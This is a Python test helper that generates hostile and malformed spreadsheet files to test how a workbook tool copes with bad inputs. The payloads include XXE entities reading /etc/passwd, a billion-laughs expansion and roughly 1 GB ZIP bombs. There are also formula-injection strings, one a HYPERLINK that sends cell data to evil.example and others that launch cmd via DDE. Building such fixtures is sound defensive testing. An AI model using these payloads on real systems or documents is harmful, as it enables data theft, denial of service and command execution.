"""Generators of hostile files (issue 7): what a director's inbox can hold, built on demand, never committed.

Each `make_<case>(dir) -> Path` writes one small file into `dir`, starting (where the case is a
damaged workbook) from a small valid rep workbook written with openpyxl, then mutating its zip
members or XML bytes. `CASES` maps a case name to its generator and `EXPECTED` to what a
director expects kamxl to make of it:

- "failed":  the file cannot be used at all; it is listed with a reason, the others go on;
- "problem": the file is read, and a cell, row or setting carries a problem naming where;
- "ok":      the file is read, with no problem (the hostile content is plain data).

A generator raises `CaseUnavailable` where the machine cannot produce the case (a file that root
can still read, a file system refusing non-UTF-8 names); tests turn that into a skip.
Bombs are built chunk-wise (a deflate block of 1 MiB repeated), so a 1 GiB-inflating member costs
about 1 MB on disk and a second or two to write, and never more than a few MB of memory.
"""

import faulthandler
import gc
import multiprocessing
import os
import random
import re
import resource
import shutil
import signal
import struct
import subprocess
import tempfile
import traceback
import zlib
from datetime import date
from pathlib import Path
from typing import Callable, Iterable

import openpyxl

from tests.conftest import customer, rows_of, write_workbook

BOMB_SIZE = (1 << 30) + (1 << 20)  # ≥ 1 GB once inflated
CUSTOMER_PART = "xl/worksheets/sheet2.xml"  # 客户档案 (说明 is sheet1) in an openpyxl-written workbook
VISIT_PART = "xl/worksheets/sheet5.xml"  # 拜访日报
CUSTOMER_LABELS = ["客户编号", "客户名称", "行业", "开发阶段", "建档日期", "年采购额(万元)"]  # columns A–F
TARGET_ROW = 3  # the customer row the cell mutations hit (KA-002)


class CaseUnavailable(Exception):
    "This machine cannot produce the case (say why)"


MEMORY_LIMIT = 1 << 30  # address space of a child running a case: the ceiling for a whole run


def run_isolated(fn, *args, seconds: float = 60):
    """fn(*args) in a forked child with a bounded address space and time; its result, or AssertionError saying how it died."""
    ctx = multiprocessing.get_context("fork")
    receiver, sender = ctx.Pipe(duplex=False)

    def target():
        os.setpgid(0, 0)  # its own process group: on a timeout the reading workers it started go with it
        faulthandler.disable()  # a native abort is reported below by its signal, not by a dump of every thread
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
        try:
            result = ("ok", fn(*args))
        except BaseException:  # noqa: BLE001 — anything escaping is what the test reports
            result = ("error", traceback.format_exc())
        sender.send(result)
        sender.close()
        del result  # a roll-up it returned removes its spilled rows when collected (this child ends with os._exit)
        gc.collect()

    child = ctx.Process(target=target)
    child.start()
    sender.close()
    try:
        if not receiver.poll(seconds):
            try:
                os.killpg(child.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            child.join()
            raise AssertionError(f"no answer within {seconds} s (hang or runaway work)")
        try:
            kind, value = receiver.recv()
        except EOFError:
            child.join()
            raise AssertionError(f"the process died without an answer (exit code {child.exitcode}: "
                                 f"{'signal ' + str(-child.exitcode) if (child.exitcode or 0) < 0 else 'exit'})") from None
    finally:
        receiver.close()
    child.join()
    if kind == "error":
        raise AssertionError(f"an exception escaped:\n{value}")
    return value


# ---------------------------------------------------------------- the valid starting point


def rep_name(case: str) -> str:
    """Each hostile file claims its own rep, so no two of them (or a demo rep) are taken for one person."""
    return f"测试{case}"


# the seven value-assessment factors at their best (cost, risks, difficulty count inversely): score 100, grade A
BEST_RATINGS = {"份额": 5, "投入成本": 1, "成交风险": 1, "经营价值": 5, "付款风险": 1, "供应能力": 5, "技术难度": 1}


def write_valid_rep_workbook(path: Path, rep: str, customer_names: Iterable[str] | None = None, graded: bool = False) -> Path:
    """A small rep workbook that `validate` finds clean: three customers, a contact, a plan and two visits.

    Its customers carry no value-assessment factors (so they are 未评级 and never overdue) unless
    `graded`, when every one is rated for a score of 100 (grade A, a 30-day cadence): KA-001 and
    KA-002 were visited in October 2026, KA-003 never.
    """
    names = list(customer_names or (f"{rep}{i}号客户有限公司" for i in (1, 2, 3)))
    customers = [customer(f"KA-00{i}", name=name, created=date(2026, 3, i), **{"年采购额(万元)": 12.5 * i},
                          **(BEST_RATINGS if graded else {}))
                 for i, name in enumerate(names, 1)]
    sheets = {
        "客户档案": rows_of(customers),
        "联系人": [["客户编号", "姓名", "手机"], ["KA-001", "王经理", "13800138000"]],
        "拜访计划": [["计划日期", "客户编号"], [date(2026, 10, 20), "KA-001"]],
        "拜访日报": [["日期", "客户编号", "拜访结果"], [date(2026, 10, 8), "KA-001", "洽谈顺利"],
                 [date(2026, 10, 9), "KA-002", "电话沟通"]],
    }
    return write_workbook(path, sheets, rep)


def _base(dir: Path, case: str) -> Path:
    """The valid workbook a damaged case starts from, in a scratch name beside the target."""
    return write_valid_rep_workbook(dir / f".base-{case}.xlsx", rep_name(case))


# ---------------------------------------------------------------- zip plumbing


def read_members(path: Path) -> list[tuple[str, bytes]]:
    import zipfile

    with zipfile.ZipFile(path) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def write_raw_zip(path: Path, members: Iterable[tuple], lie_sizes: dict[str, int] | None = None, flags: int = 0) -> Path:
    """A zip written by hand (so it can hold what zipfile will not write).

    Each member is (name, data) or (name, chunks, None) where chunks is an iterable of
    (raw-deflate bytes, uncompressed bytes) pairs already compressed by the caller. `lie_sizes`
    makes the central directory claim another uncompressed size for a member; `flags` sets the
    general-purpose flag bits of every member (bit 0 = encrypted).
    """
    lie_sizes = lie_sizes or {}
    central = []
    with open(path, "wb") as fh:
        for member in members:
            name = member[0].encode()
            offset = fh.tell()
            header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x21, 0, 0, 0, len(name), 0)
            fh.write(header + name)
            crc, csize, usize = 0, 0, 0
            if len(member) == 2:
                data = member[1]
                comp = zlib.compressobj(6, zlib.DEFLATED, -15)
                blob = comp.compress(data) + comp.flush()
                fh.write(blob)
                crc, csize, usize = zlib.crc32(data), len(blob), len(data)
            else:
                for raw, plain in member[1]:
                    fh.write(raw)
                    csize += len(raw)
                    if plain:
                        crc = zlib.crc32(plain, crc)
                        usize += len(plain)
            end = fh.tell()
            fh.seek(offset + 14)
            fh.write(struct.pack("<III", crc, csize, usize))
            fh.seek(end)
            claimed = lie_sizes.get(member[0], usize)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 8, 0, 0x21, crc, csize, claimed,
                                       len(name), 0, 0, 0, 0, 0, offset) + name)
        start = fh.tell()
        for entry in central:
            fh.write(entry)
        size = fh.tell() - start
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, start, 0))
    return path


def _deflate_repeated(prefix: bytes, filler: bytes, size: int, suffix: bytes):
    """(raw deflate, plain) pairs of prefix + filler repeated to `size` bytes + suffix, in little memory.

    After a full flush the compressor forgets its history, so every further 1 MiB of filler
    compresses to the same bytes: compress it once, then repeat the block.
    """
    chunk = filler * ((1 << 20) // len(filler))
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH), prefix
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    for _ in range(size // len(chunk)):
        yield block, chunk
    yield comp.compress(suffix) + comp.flush(), suffix


def mutate(src: Path, dst: Path, changes: dict[str, Callable[[bytes], bytes] | bytes | None],
           extra: Iterable[tuple[str, bytes]] = ()) -> Path:
    """A copy of the zip `src` at `dst` with members changed (bytes or a function of the old bytes), dropped (None) or added."""
    import zipfile

    out = []
    for name, data in read_members(src):
        change = changes.get(name, data)
        if change is None:
            continue
        out.append((name, change(data) if callable(change) else change))
    out.extend(extra)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # a duplicate name is the point of one case
            for name, data in out:
                zf.writestr(name, data)
    src.unlink()
    return dst


def set_cell(xml: bytes, ref: str, cell_xml: str | bytes) -> bytes:
    """The sheet XML with the cell `ref` replaced (the new XML must carry its own r= attribute)."""
    cell_xml = cell_xml.encode() if isinstance(cell_xml, str) else cell_xml
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
    new, n = pattern.subn(lambda _m: cell_xml, xml, count=1)
    assert n == 1, f"cell {ref} not found"
    return new


def inline(ref: str, text: str) -> str:
    """An inline-string cell; `text` is inserted as XML, unescaped (character references stay references)."""
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def number(ref: str, value: str, style: str | None = None) -> str:
    return f'<c r="{ref}"{f" s={chr(34)}{style}{chr(34)}" if style else ""} t="n"><v>{value}</v></c>'


def _doctype(xml: bytes, doctype: str) -> bytes:
    """The XML with a DOCTYPE after its declaration (openpyxl writes none: then at the very start)."""
    decl = re.match(rb"<\?xml[^>]*\?>", xml)
    at = decl.end() if decl else 0
    return xml[:at] + doctype.encode() + xml[at:]


SST_CONTENT_TYPE = ('<Override PartName="/xl/sharedStrings.xml" '
                    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
SST_REL = ('<Relationship Id="rIdSst" Target="sharedStrings.xml" '
           'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>')
SST_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _with_shared_strings(dir: Path, case: str, sst: bytes | None, cell: str, name: str | None = None,
                         doctype: str = "") -> Path:
    """The base workbook given a sharedStrings part (`sst`, or none written when None) and B3 pointing into it."""
    changes = {
        CUSTOMER_PART: lambda xml: set_cell(xml, f"B{TARGET_ROW}", cell),
        "[Content_Types].xml": lambda xml: xml.replace(b"</Types>", SST_CONTENT_TYPE.encode() + b"</Types>"),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"</Relationships>", SST_REL.encode() + b"</Relationships>"),
    }
    extra = [("xl/sharedStrings.xml", sst)] if sst is not None else []
    return mutate(_base(dir, case), dir / (name or f"{case}.xlsx"), changes, extra)


def _cell_case(dir: Path, case: str, ref: str, cell_xml: str | bytes, part: str = CUSTOMER_PART) -> Path:
    return mutate(_base(dir, case), dir / f"{case}.xlsx", {part: lambda xml: set_cell(xml, ref, cell_xml)})


# ---------------------------------------------------------------- XML: entities, characters, encodings

LAUGHS = ('<!DOCTYPE worksheet [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")


def make_billion_laughs(dir: Path) -> Path:
    """A sheet XML declaring nested entities (10⁹ 'lol's once expanded), one referenced in a cell."""
    return mutate(_base(dir, "billion_laughs"), dir / "billion_laughs.xlsx",
                  {CUSTOMER_PART: lambda xml: set_cell(_doctype(xml, LAUGHS), f"B{TARGET_ROW}", inline(f"B{TARGET_ROW}", "&lol9;"))})


def make_entity_declaration(dir: Path) -> Path:
    """A sheet XML with an internal entity declared and used in a cell."""
    return mutate(_base(dir, "entity_declaration"), dir / "entity_declaration.xlsx",
                  {CUSTOMER_PART: lambda xml: set_cell(_doctype(xml, '<!DOCTYPE worksheet [<!ENTITY co "华信精密">]>'),
                                                       f"B{TARGET_ROW}", inline(f"B{TARGET_ROW}", "&co;有限公司"))})


XXE = '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def make_xxe_sheet(dir: Path) -> Path:
    """XXE: a SYSTEM entity naming /etc/passwd, used in a customer-name cell of the sheet XML."""
    return mutate(_base(dir, "xxe_sheet"), dir / "xxe_sheet.xlsx",
                  {CUSTOMER_PART: lambda xml: set_cell(_doctype(xml, XXE.format(root="worksheet")), f"B{TARGET_ROW}",
                                                       inline(f"B{TARGET_ROW}", "&xxe;"))})


def make_xxe_shared_strings(dir: Path) -> Path:
    """XXE in sharedStrings.xml: the string a customer-name cell points to is the /etc/passwd entity."""
    sst = (f'<?xml version="1.0" encoding="UTF-8"?>{XXE.format(root="sst")}'
           f'<sst {SST_NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>').encode()
    return _with_shared_strings(dir, "xxe_shared_strings", sst, f'<c r="B{TARGET_ROW}" t="s"><v>0</v></c>')


def make_char_ref_nul(dir: Path) -> Path:
    """`&#0;` in a customer name: a character XML 1.0 forbids, written as a reference."""
    return _cell_case(dir, "char_ref_nul", f"B{TARGET_ROW}", inline(f"B{TARGET_ROW}", "华信&#0;精密有限公司"))


def make_char_ref_controls(dir: Path) -> Path:
    """Other XML-1.0-invalid references (&#1; &#8; &#x1B; &#xD800;) in a customer name."""
    return _cell_case(dir, "char_ref_controls", f"B{TARGET_ROW}",
                      inline(f"B{TARGET_ROW}", "华信&#1;精&#8;密&#x1B;有&#xD800;限公司"))


def make_char_ref_ffff(dir: Path) -> Path:
    """`&#xFFFF;` (and &#xFFFE;) in a customer name: a non-character the roll-up would write raw."""
    return _cell_case(dir, "char_ref_ffff", f"B{TARGET_ROW}", inline(f"B{TARGET_ROW}", "华信精密&#xFFFF;有限&#xFFFE;公司"))


def make_raw_control_bytes(dir: Path) -> Path:
    """Literal control bytes (BEL, ESC, NUL) inside a cell's text: not well-formed XML, yet some tools write it."""
    return _cell_case(dir, "raw_control_bytes", f"B{TARGET_ROW}",
                      inline(f"B{TARGET_ROW}", "华信\x07精密\x1b有限\x00公司").encode())


def _misencoded(dir: Path, case: str, encoding: str) -> Path:
    """The customer sheet encoded in `encoding` while its declaration still says UTF-8."""
    def recode(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        if not text.startswith("<?xml"):
            text = '<?xml version="1.0" encoding="UTF-8"?>' + text
        return text.encode(encoding)
    return mutate(_base(dir, case), dir / f"{case}.xlsx", {CUSTOMER_PART: recode})


def make_sheet_gbk(dir: Path) -> Path:
    """The customer sheet encoded in GBK while its declaration says UTF-8."""
    return _misencoded(dir, "sheet_gbk", "gbk")


def make_sheet_utf16(dir: Path) -> Path:
    """The customer sheet encoded in UTF-16 (with a BOM, as Windows tools write it) while declaring UTF-8."""
    return _misencoded(dir, "sheet_utf16", "utf-16")


# ---------------------------------------------------------------- package structure


def make_missing_sheet_part(dir: Path) -> Path:
    """workbook.xml.rels sends 客户档案 to a part that is not in the zip."""
    return mutate(_base(dir, "missing_sheet_part"), dir / "missing_sheet_part.xlsx",
                  {"xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"/xl/worksheets/sheet2.xml", b"/xl/worksheets/sheet99.xml")})


def make_duplicate_members(dir: Path) -> Path:
    """Two zip members named xl/worksheets/sheet2.xml, holding different customers."""
    base = _base(dir, "duplicate_members")
    twin = dict(read_members(base))[CUSTOMER_PART].replace(b"KA-002", b"KA-902")
    return mutate(base, dir / "duplicate_members.xlsx", {}, [(CUSTOMER_PART, twin)])


def make_shared_string_out_of_range(dir: Path) -> Path:
    """A customer-name cell pointing at shared string 99999 of a table holding one."""
    sst = f'<?xml version="1.0" encoding="UTF-8"?><sst {SST_NS} count="1" uniqueCount="1"><si><t>华信</t></si></sst>'.encode()
    return _with_shared_strings(dir, "shared_string_out_of_range", sst, f'<c r="B{TARGET_ROW}" t="s"><v>99999</v></c>')


def _bad_ref(dir: Path, case: str, bad: str) -> Path:
    def change(xml: bytes) -> bytes:
        if bad == "ZZZZ1":  # beyond the last column XFD, on the header row
            return xml.replace(b"</row>", inline("ZZZZ1", "备注").encode() + b"</row>", 1)
        return xml.replace(f'<c r="A{TARGET_ROW}"'.encode(), f'<c r="{bad}"'.encode(), 1)
    return mutate(_base(dir, case), dir / f"{case}.xlsx", {CUSTOMER_PART: change})


def make_bad_ref_1A(dir: Path) -> Path:
    """A cell reference written row-first: r="1A"."""
    return _bad_ref(dir, "bad_ref_1A", "1A")


def make_bad_ref_A0(dir: Path) -> Path:
    """A cell reference on row 0: r="A0"."""
    return _bad_ref(dir, "bad_ref_A0", "A0")


def make_bad_ref_ZZZZ1(dir: Path) -> Path:
    """A cell reference beyond column XFD: r="ZZZZ1"."""
    return _bad_ref(dir, "bad_ref_ZZZZ1", "ZZZZ1")


def make_cell_at_xfd1048576(dir: Path) -> Path:
    """One stray cell at XFD1048576, the last cell of the grid, beside the data starting at A1."""
    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', xml)
        return xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>')
    return mutate(_base(dir, "cell_at_xfd1048576"), dir / "cell_at_xfd1048576.xlsx", {CUSTOMER_PART: change})


def make_xlsb_zip(dir: Path) -> Path:
    """A zip that looks like an .xlsb: xl/workbook.bin and a binary sheet of noise."""
    rng = random.Random(7)
    noise = bytes(rng.getrandbits(8) for _ in range(4096))
    members = [
        ("[Content_Types].xml", b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                b'<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'),
        ("_rels/.rels", b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/></Relationships>'),
        ("xl/workbook.bin", b"\x83\x01\x00\x80\x01" + noise[:1024]),
        ("xl/_rels/workbook.bin.rels", b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                       b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.bin"/></Relationships>'),
        ("xl/worksheets/sheet1.bin", noise),
    ]
    return write_raw_zip(dir / "xlsb_zip.xlsb", members)


def _varint(n: int) -> bytes:
    out = b""
    while True:
        low, n = n & 0x7F, n >> 7
        out += bytes([low | (0x80 if n else 0)])
        if not n:
            return out


def _record(kind: int, data: bytes = b"") -> bytes:
    """One BIFF12 record (.xlsb): type and size as 7-bit varints, then the data."""
    return _varint(kind) + _varint(len(data)) + data


def _wide_string(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def make_xlsb_panic(dir: Path) -> Path:
    """A well-formed .xlsb whose 客户档案 holds one shared-string cell (BrtCellIsst) pointing at string 99,999
    of a workbook without a shared-strings part: calamine panics (a PanicException, not an Exception)."""
    book = (_record(0x83) + _record(0x8F) + _record(0x9C, struct.pack("<II", 0, 1) + _wide_string("rId1") + _wide_string("客户档案"))
            + _record(0x90) + _record(0x84))
    sheet = (_record(0x81) + _record(0x94, struct.pack("<IIII", 0, 0, 0, 0)) + _record(0x91)
             + _record(0x00, struct.pack("<I", 0) + b"\x00" * 13) + _record(0x07, struct.pack("<III", 0, 0, 99_999))
             + _record(0x92) + _record(0x82))
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
            '</Relationships>')
    members = [
        ("[Content_Types].xml", b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                b'<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'),
        ("_rels/.rels", rels.format(kind="officeDocument", target="xl/workbook.bin").encode()),
        ("xl/workbook.bin", book),
        ("xl/_rels/workbook.bin.rels", rels.format(kind="worksheet", target="worksheets/sheet1.bin").encode()),
        ("xl/worksheets/sheet1.bin", sheet),
    ]
    return write_raw_zip(dir / "xlsb_panic.xlsb", members)


def make_garbage_xlsb(dir: Path) -> Path:
    """Random bytes named .xlsb."""
    rng = random.Random(8)
    path = dir / "garbage_xlsb.xlsb"
    path.write_bytes(b"\x00" + bytes(rng.getrandbits(8) for _ in range(8191)))
    return path


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def make_ole_truncated(dir: Path) -> Path:
    """An OLE (old .xls / encrypted .xlsx) header cut after 100 bytes."""
    path = dir / "ole_truncated.xlsx"
    path.write_bytes(OLE_MAGIC + b"\x00" * 16 + struct.pack("<HHH", 0x3E, 3, 0xFFFE) + b"\x00" * 70)
    return path


def make_ole_bad_sector_size(dir: Path) -> Path:
    """A complete-looking OLE header claiming a sector shift of 30 (1 GiB sectors), then 4 KiB of zeros."""
    header = bytearray(512)
    header[0:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 30, 6)  # minor, major, byte order, sector shift, mini shift
    struct.pack_into("<I", header, 44, 1)  # one FAT sector
    struct.pack_into("<I", header, 48, 0)  # first directory sector
    struct.pack_into("<I", header, 56, 4096)
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)
    header[76:512] = b"\xff" * 436
    path = dir / "ole_bad_sector_size.xls"
    path.write_bytes(bytes(header) + b"\x00" * 4096)
    return path


def make_zip_encrypted(dir: Path) -> Path:
    """A workbook whose zip members are encrypted (`zip -P`; by the flag bit when the zip tool is absent)."""
    base = _base(dir, "zip_encrypted")
    target = dir / "zip_encrypted.xlsx"
    if shutil.which("zip"):
        with tempfile.TemporaryDirectory(dir=dir) as tmp:
            for name, data in read_members(base):
                (Path(tmp) / name).parent.mkdir(parents=True, exist_ok=True)
                (Path(tmp) / name).write_bytes(data)
            subprocess.run(["zip", "-q", "-r", "-P", "secret", str(target.resolve()), "."], cwd=tmp, check=True)
    else:
        write_raw_zip(target, read_members(base), flags=0x1)
    base.unlink()
    return target


def make_unreadable(dir: Path) -> Path:
    """A valid workbook without read permission (chmod 000)."""
    path = write_valid_rep_workbook(dir / "unreadable.xlsx", rep_name("unreadable"))
    path.chmod(0)
    if os.access(path, os.R_OK):  # root reads whatever the mode says
        path.chmod(0o644)
        path.unlink()
        raise CaseUnavailable("running as root: a chmod-000 file is still readable")
    return path


def make_empty_file(dir: Path) -> Path:
    """A 0-byte .xlsx."""
    path = dir / "empty_file.xlsx"
    path.write_bytes(b"")
    return path


def make_truncated_zip(dir: Path) -> Path:
    """The first half of a valid workbook (a download or copy cut short)."""
    base = _base(dir, "truncated_zip")
    path = dir / "truncated_zip.xlsx"
    data = base.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    base.unlink()
    return path


def make_central_directory_lies(dir: Path) -> Path:
    """A zip whose central directory claims the customer sheet inflates to 100 bytes (it is larger)."""
    base = _base(dir, "central_directory_lies")
    path = write_raw_zip(dir / "central_directory_lies.xlsx", read_members(base), lie_sizes={CUSTOMER_PART: 100})
    base.unlink()
    return path


def make_html_renamed(dir: Path) -> Path:
    """An HTML table export saved as .xlsx."""
    path = dir / "html_renamed.xlsx"
    path.write_text("<html><head><meta charset='utf-8'></head><body><table><tr><td>客户编号</td><td>客户名称</td></tr>"
                    "<tr><td>KA-001</td><td>华信精密机械有限公司</td></tr></table></body></html>", encoding="utf-8")
    return path


def make_csv_renamed(dir: Path) -> Path:
    """A CSV saved as .xlsx."""
    path = dir / "csv_renamed.xlsx"
    path.write_text("客户编号,客户名称,行业,开发阶段,建档日期\nKA-001,华信精密机械有限公司,制造,合作,2026-03-01\n", encoding="utf-8")
    return path


def make_non_utf8_name(dir: Path) -> Path:
    """A valid workbook whose file name holds bytes that are not UTF-8 (as a zip from an old Windows PC leaves)."""
    name = os.fsdecode(b"non_utf8_name_\xff\xfe\xb4\xf3.xlsx")
    if "\udcff" not in name:
        raise CaseUnavailable("the file system encoding decodes any byte: no undecodable name to make")
    try:
        path = write_valid_rep_workbook(dir / name, rep_name("non_utf8_name"))
    except (OSError, UnicodeEncodeError) as exc:
        raise CaseUnavailable(f"the file system refuses non-UTF-8 names: {exc}") from exc
    return path


def make_formula_injection(dir: Path) -> Path:
    """Text cells that a spreadsheet would run as formulas: =HYPERLINK(...), +cmd|..., @SUM(...), -2+3+cmd|...."""
    rep = rep_name("formula_injection")
    path = write_valid_rep_workbook(dir / "formula_injection.xlsx", rep, FORMULA_TEXTS[:3])
    wb = openpyxl.load_workbook(path)
    ws = wb["联系人"]
    ws["B2"] = FORMULA_TEXTS[3]
    ws["B2"].data_type = "s"
    ws = wb["拜访日报"]
    ws["C2"] = FORMULA_TEXTS[1]
    ws["C2"].data_type = "s"
    wb.save(path)
    return path


FORMULA_TEXTS = ('=HYPERLINK("http://evil.example/?d="&A1,"点我查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0")


# ---------------------------------------------------------------- memory: bombs, wide and long sheets


def _bomb(dir: Path, case: str, part: str, prefix: bytes, suffix: bytes, extra_changes: dict | None = None,
          extra: list | None = None) -> Path:
    """The base workbook with `part` replaced by prefix + 'a' × ≥ 1 GB + suffix, deflated chunk-wise."""
    base = _base(dir, case)
    members: list[tuple] = []
    for name, data in read_members(base):
        change = (extra_changes or {}).get(name)
        if name == part:
            continue
        members.append((name, change(data) if change else data))
    members += extra or []
    members.append((part, _deflate_repeated(prefix, b"a", BOMB_SIZE, suffix), None))
    path = write_raw_zip(dir / f"{case}.xlsx", members)
    base.unlink()
    return path


def make_bomb_shared_strings(dir: Path) -> Path:
    """A sharedStrings part holding one ≥ 1 GB string (about 1 MB on disk), referenced by a customer name."""
    prefix = f'<?xml version="1.0" encoding="UTF-8"?><sst {SST_NS} count="1" uniqueCount="1"><si><t>'.encode()
    changes = {
        CUSTOMER_PART: lambda xml: set_cell(xml, f"B{TARGET_ROW}", f'<c r="B{TARGET_ROW}" t="s"><v>0</v></c>'),
        "[Content_Types].xml": lambda xml: xml.replace(b"</Types>", SST_CONTENT_TYPE.encode() + b"</Types>"),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"</Relationships>", SST_REL.encode() + b"</Relationships>"),
    }
    return _bomb(dir, "bomb_shared_strings", "xl/sharedStrings.xml", prefix, b"</t></si></sst>", changes)


def make_bomb_inline_cell(dir: Path) -> Path:
    """One inline-string customer-name cell that inflates to ≥ 1 GB."""
    base_xml = dict(read_members(write_valid_rep_workbook(dir / ".probe.xlsx", rep_name("bomb_inline_cell"))))[CUSTOMER_PART]
    (dir / ".probe.xlsx").unlink()
    marker = b"\x00MARK\x00"
    xml = set_cell(base_xml, f"B{TARGET_ROW}", inline(f"B{TARGET_ROW}", "").encode().replace(b"<t></t>", b"<t>" + marker + b"</t>"))
    prefix, suffix = xml.split(marker)
    return _bomb(dir, "bomb_inline_cell", CUSTOMER_PART, prefix, suffix)


def make_wide_sheet(dir: Path) -> Path:
    """A customer sheet 16,384 columns wide: the first customer's row runs to XFD."""
    from openpyxl.utils import get_column_letter

    def change(xml: bytes) -> bytes:
        cells = "".join(f'<c r="{get_column_letter(i)}2" t="n"><v>{i}</v></c>' for i in range(len(CUSTOMER_LABELS) + 1, 16385))
        head, sep, tail = xml.partition(b'<row r="3"')
        row_end = head.rindex(b"</row>")
        xml = head[:row_end] + cells.encode() + head[row_end:] + sep + tail
        return re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD4"/>', xml)
    return mutate(_base(dir, "wide_sheet"), dir / "wide_sheet.xlsx", {CUSTOMER_PART: change})


LONG_ROWS = 200_000


def _deflate_stream(pieces: Iterable[bytes]):
    """(raw deflate, plain) pairs of the pieces, compressed as one stream."""
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    for piece in pieces:
        yield comp.compress(piece), piece
    yield comp.flush(), b""


def make_long_sheet(dir: Path) -> Path:
    """A visit report of 200,000 rows, its XML streamed in chunks of 10,000 rows straight into the zip."""
    base = _base(dir, "long_sheet")
    xml = dict(read_members(base))[VISIT_PART]
    head, _, tail = xml.partition(b"</sheetData>")
    head = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="A1:C{LONG_ROWS + 1}"/>'.encode(), head)
    head = head[: head.index(b'<row r="2"')]  # keep the header row only
    # visits from the day the last of the base workbook's customers was created (2026-03-03) over 240 days:
    # none before its customer's 建档日期, none in the future
    first = (date(2026, 3, 3) - date(1899, 12, 30)).days
    ids = ("KA-001", "KA-002", "KA-003")

    def pieces():
        yield head
        for start in range(2, LONG_ROWS + 2, 10_000):
            yield "".join(f'<row r="{r}"><c r="A{r}" s="1" t="n"><v>{first + r % 240}</v></c>'
                          f'<c r="B{r}" t="inlineStr"><is><t>{ids[r % 3]}</t></is></c>'
                          f'<c r="C{r}" t="inlineStr"><is><t>电话沟通</t></is></c></row>'
                          for r in range(start, min(start + 10_000, LONG_ROWS + 2))).encode()
        yield b"</sheetData>" + tail

    members: list[tuple] = [(n, d) for n, d in read_members(base) if n != VISIT_PART]
    members.append((VISIT_PART, _deflate_stream(pieces()), None))
    path = write_raw_zip(dir / "long_sheet.xlsx", members)
    base.unlink()
    return path


def make_wide_and_long_sheet(dir: Path) -> Path:
    """The 200,000-row visit report with one note at XFD1: a grid of 16,384 × 200,001 cells if read densely."""
    with tempfile.TemporaryDirectory(dir=dir) as tmp:  # not beside the long_sheet case's own file
        path = make_long_sheet(Path(tmp))
        members = []
        for name, data in read_members(path):
            if name == VISIT_PART:
                data = data.replace(b"</row>", inline("XFD1", "备注").encode() + b"</row>", 1)
                data = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="A1:XFD{LONG_ROWS + 1}"/>'.encode(), data)
            members.append((name, data))
    return write_raw_zip(dir / "wide_and_long_sheet.xlsx", members)


# ---------------------------------------------------------------- numbers and dates

AMOUNT_REF = f"F{TARGET_ROW}"
DATE_REF = f"E{TARGET_ROW}"


def make_amount_1e308(dir: Path) -> Path:
    """年采购额 of 1e308 (a finite double; the sum of two is infinite)."""
    return _cell_case(dir, "amount_1e308", AMOUNT_REF, number(AMOUNT_REF, "1e308"))


